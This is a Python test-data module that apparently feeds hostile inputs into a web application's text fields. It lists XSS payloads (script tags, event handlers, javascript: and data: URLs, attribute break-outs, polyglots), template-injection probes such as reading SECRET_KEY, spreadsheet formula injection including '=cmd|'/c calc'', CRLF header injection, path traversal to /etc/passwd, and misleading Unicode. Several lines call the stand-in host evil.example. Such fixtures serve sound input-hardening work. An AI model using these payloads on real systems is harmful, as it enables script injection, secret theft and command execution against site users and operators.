"""Words made to become more than words: markup, scripts, formulas, header lines, characters that mislead.

Most have at most forty characters, so that they fit whole into the shortest field that takes any text.
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator
from functools import cache

SCRIPTS = (
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=//evil.example/x></script>",
    "<script type=module>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<script>alert(1)<!--",
    "</script><script>alert(1)</script>",
    '"}</script><script>alert(1)</script>',
    "<svg><script>alert(1)</script></svg>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
)
HANDLERS = (
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=x onerror=alert&#40;1&#41;>",
    "<img src=x:x onerror='alert(1)'//",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<p onpointerenter=alert(1)>read me</p>",
    "<a onclick=alert(1) href=#>read on</a>",
    "<q onbeforematch=alert(1) hidden=until-found>",
)
FOREIGN = (
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><animate onbegin=alert(1) dur=1s>",
    "<svg><a href='javascript:alert(1)'>x",
    "<svg><use href='//evil.example/x.svg#a'>",
    "<svg><style><img src=x onerror=alert(1)>",
    "<math><a xlink:href=javascript:alert(1)>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript://%0aalert(1)",
    "javascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHN2Zy9vbmxvYWQ+",
    "//evil.example/",
    "\\\\evil.example\\share",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,x'>x</a>",
    "[x](javascript:alert(1))",
)
BREAK_OUTS = (
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    "><img src=x onerror=alert(1)>",
    '" onfocus=alert(1) autofocus x="',
    "' onfocus=alert(1) autofocus x='",
    "` onfocus=alert(1) autofocus x=`",
    " onfocus=alert(1) autofocus ",
    "x onmouseover=alert(1)",
    '" style="position:fixed;inset:0',
    '"/><form action=//evil.example>',
    "</textarea><svg onload=alert(1)>",
    "</title><svg onload=alert(1)>",
    "</style><svg onload=alert(1)>",
    "</select></option><svg onload=alert(1)>",
    "</button></form><svg onload=alert(1)>",
    "</xmp></noembed><svg onload=alert(1)>",
    "--><svg onload=alert(1)>",
    "--!><svg onload=alert(1)>",
    "<!--><svg onload=alert(1)>",
    "]]><svg onload=alert(1)>",
    "<![CDATA[<svg onload=alert(1)>]]>",
    "<?xml version='1.0'?><svg onload=alert(1)>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'z'>]>&y;",
    "\\\"><svg onload=alert(1)>",
    "\\u003csvg onload=alert(1)\\u003e",
    '{"a":"</script>"}',
    "';alert(1);//",
    '";alert(1);//',
)  # fmt: skip
TEMPLATES = (
    "{{ 7|add:7 }}",
    "{{ settings.SECRET_KEY }}",
    "{% csrf_token %}",
    "{% include 'base.html' %}",
    "{% endblock %}{% load static %}",
    "{# a remark #}",
    "${alert(1)}",
    "`${alert(1)}`",
    "#{7*7} <%= 7*7 %>",
    "{0.__class__.__init__.__globals__}",
    "%(password)s %s %n %x",
)
EMBEDDED = (
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<svg onload=alert(1)>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>OK",
    "<button formaction=javascript:alert(1)>",
    "<input type=image src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example>",
    "<link rel=prefetch href=//evil.example>",
    "<meta http-equiv=refresh content=0;x>",
    "<meta name=referrer content=unsafe-url>",
    "<style>@import'//evil.example'</style>",
    "<style>*{display:none}</style>",
    "<p style=width:expression(alert(1))>",
    "<p style=background:url(//evil.example)>",
    "<template><svg onload=alert(1)>",
    "<portal src=//evil.example>",
    "<dialog open><h1>Sign in</h1>",
    "<img src=//evil.example/x.png>",
    "<p id=main name=cookie>",
)
HTMX = (
    "<p hx-get=//evil.example hx-trigger=load>",
    "<p hx-on:click=alert(1)>x</p>",
    "<p hx-on::load='alert(1)'>x</p>",
    "<p data-hx-get=/me/ hx-trigger=load>",
    '" hx-get="/me/" hx-trigger="load',
    "<hx-partial hx-target=body>x</hx-partial>",
    "<form data-confirm='Sure?' data-unsaved>",
)
CHARACTERS = (
    "\u202egnp.exe\u202c reversed",
    "\u2066isolated\u2069 \u200f\u200e marks",
    "zero\u200bwidth\u200d\u2060joined\ufeff",
    "\ufeffbyte order mark first",
    "\u2028line\u2029paragraph separators",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2039script\u203aalert(1)",
    "\xc0\xbcscript\xc0\xbe overlong",
    "+ADw-script+AD4-alert(1)",
    "\x0bvertical\x0cfeed\x1bescape\x7fdelete",
    "\x85next\xa0line",
    "\ufdd0\ufffe\uffff no characters",
    "Z\u0351\u036b\u0343a\u0369\u0364lgo\u0310\u0352",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U000e0001tag",
    "스크립트<script>alert(1)</script>",
)
ENTITIES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;svg onload=alert(1)&#62;",
    "&#x3c;svg/onload=alert(1)&#x3e;",
    "&amp;lt;b&amp;gt; &quot; &apos; &#0;",
    "&NewLine;&Tab;&colon;&lpar;&notit;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("//evil.example","x")',
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-1+1|x",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
    'x",=1+1,"y',
)
LINES = (
    "x\r\nBcc: all@evil.example",
    "x\nSet-Cookie: session=1",
    "x\r\n\r\n<svg onload=alert(1)>",
    "x%0d%0aLocation: //evil.example",
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT",
    'x"; filename="evil.exe',
    "../../../../etc/passwd",
    "..\\..\\evil.bat",
    "x\\,\\;\\nATTENDEE:mailto:a@evil.example",
)
POLYGLOTS = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNloAd=alert(1)//>",
    "'\"--></style></script></title></textarea></noscript><img src=x onerror=alert(1)><!--{{7*7}}${7*7}",
    "\"'`><svg/onload=alert(1)>{{constructor.constructor('alert(1)')()}}{%debug%}]]>&lt;b&gt;",
)
PAYLOADS = (
    *SCRIPTS,
    *HANDLERS,
    *FOREIGN,
    *ADDRESSES,
    *BREAK_OUTS,
    *TEMPLATES,
    *EMBEDDED,
    *HTMX,
    *CHARACTERS,
    *ENTITIES,
    *FORMULAS,
    *LINES,
    *POLYGLOTS,
)
NULL = "null\x00byte<svg onload=alert(1)>"
"""No database of ours holds it, so it is refused at the door, or dropped from a file."""


def in_lines(payloads: Iterable[str] = PAYLOADS) -> str:
    """All of them, for a field that takes long texts."""
    return "\n".join(payloads)


@cache
def pieces_of(limit: int) -> tuple[str, ...]:
    """All payloads for a field of so many characters: as many in a piece as fit; a longer one is cut."""
    pieces: list[str] = []
    for payload in PAYLOADS:
        if pieces and len(pieces[-1]) + 3 + len(payload) <= limit:
            pieces[-1] += " | " + payload
        else:
            pieces.append(payload[:limit])
    return tuple(pieces)


@cache
def harmless(text: str) -> str:
    """Words of the same shape: every sign becomes a letter; spaces and line breaks stay as they are."""
    return "".join(_letters(text))


def _letters(text: str) -> Iterator[str]:
    for character in text:
        if character == "\n" or character == " " or (character.isascii() and character.isalnum()):
            yield character
        else:
            yield "e"
